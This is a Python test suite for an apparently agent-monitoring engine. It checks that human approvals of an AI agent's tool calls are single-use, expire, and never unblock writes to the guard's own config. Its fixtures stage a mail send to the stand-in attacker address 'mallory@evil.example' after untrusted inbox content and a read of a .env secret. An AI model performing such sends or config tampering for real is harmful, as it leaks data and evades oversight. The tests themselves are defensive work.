from dataclasses import replace

from hypothesis import given
from hypothesis import strategies as st
from tests.act.rules.sessions import policy_of

from tripwire.act.approval import approved_rules, call_hash
from tripwire.engine import Engine
from tripwire.model.event import Approved, SessionOpened, ToolCall, ToolResult, UserSaid
from tripwire.model.label import Label
from tripwire.model.verdict import ALLOWED, Action

SEND = ToolCall("c1", "mail", "send", {"to": "mallory@evil.example", "body": "hi"}, "/r", at=100.0)
POLICY = {
    "flow": {
        "policies": {
            "mail": {
                "tools": {
                    "send": {"writes": ["external"], "destination": ["to"]},
                    "inbox": {"reads": ["untrusted", "private"]},
                }
            }
        }
    }
}


def session():
    engine = Engine(policy_of(POLICY))
    engine.learn(SessionOpened("test", "/r", "/home/me"), ALLOWED)
    engine.learn(UserSaid("hi"), ALLOWED)
    engine.learn(ToolResult("i", "mail", "inbox", {}, "to mallory@evil.example"), ALLOWED)
    return engine


def grant(engine, call=SEND, **changes):
    rules = frozenset(f.rule for f in engine.judge(call).findings)
    held = engine.memory.labels.as_set()
    return replace(
        Approved("ap-1", call_hash(call, engine.memory), rules, "ann", "cli", held, expires=200.0),
        **changes,
    )


def test_an_approval_lets_the_same_call_through_once():
    engine = session()
    assert engine.judge(SEND).action is Action.ASK
    engine.learn(grant(engine), ALLOWED)
    verdict = engine.judge(SEND)
    assert verdict.passes
    engine.learn(SEND, verdict)
    assert engine.judge(SEND).action is Action.ASK


def test_it_covers_no_other_arguments():
    engine = session()
    engine.learn(grant(engine), ALLOWED)
    assert engine.judge(replace(SEND, args={**SEND.args, "body": "other"})).action is Action.ASK


def test_it_expires():
    engine = session()
    engine.learn(grant(engine), ALLOWED)
    assert engine.judge(replace(SEND, at=201.0)).action is Action.ASK


def test_it_covers_no_labels_that_came_later():
    engine = session()
    engine.learn(grant(engine), ALLOWED)
    engine.learn(
        ToolResult("e", "claude-code", "Read", {"file_path": "/r/.env"}, "MODE=dev"), ALLOWED
    )
    assert Label.SECRET in engine.memory.labels
    assert not engine.judge(SEND).passes


def test_it_silences_only_the_rules_it_names():
    engine = session()
    engine.learn(grant(engine, rules=frozenset({"act/private-out"})), ALLOWED)
    verdict = engine.judge(SEND)
    assert verdict.action is Action.ASK
    assert "act/untrusted-destination" in {
        f.rule for f in verdict.findings if f.action is Action.ASK
    }


def test_a_block_is_never_lifted():
    engine = session()
    call = ToolCall(
        "c", "claude-code", "Write", {"file_path": "/r/tripwire.yaml", "content": "x"}, "/r"
    )
    engine.learn(grant(engine, call), ALLOWED)
    assert engine.judge(call).action is Action.BLOCK


def test_nothing_granted_is_nothing_silenced():
    engine = session()
    assert approved_rules(SEND, engine.case()) == (frozenset(), "")


@given(st.dictionaries(st.text(max_size=4), st.text(max_size=4) | st.integers(), max_size=3),
       st.text(max_size=3))  # fmt: skip
def test_the_hash_is_of_tool_arguments_and_principal(args, principal):
    call = ToolCall("a", "s", "t", args, principal=principal)
    assert call_hash(call) == call_hash(replace(call, call_id="b", at=5.0, cwd="/x"))
    assert call_hash(call) != call_hash(replace(call, tool="u"))
    assert call_hash(call) != call_hash(replace(call, principal=principal + "x"))
    assert call_hash(call) != call_hash(replace(call, args={**args, "more": 1}))


def test_what_canonical_json_cannot_say_has_a_hash_of_its_own():
    odd = ToolCall("a", "s", "t", {"n": float("nan")})
    assert call_hash(odd) == call_hash(odd)
    assert call_hash(odd) != call_hash(replace(odd, args={"n": 1}))
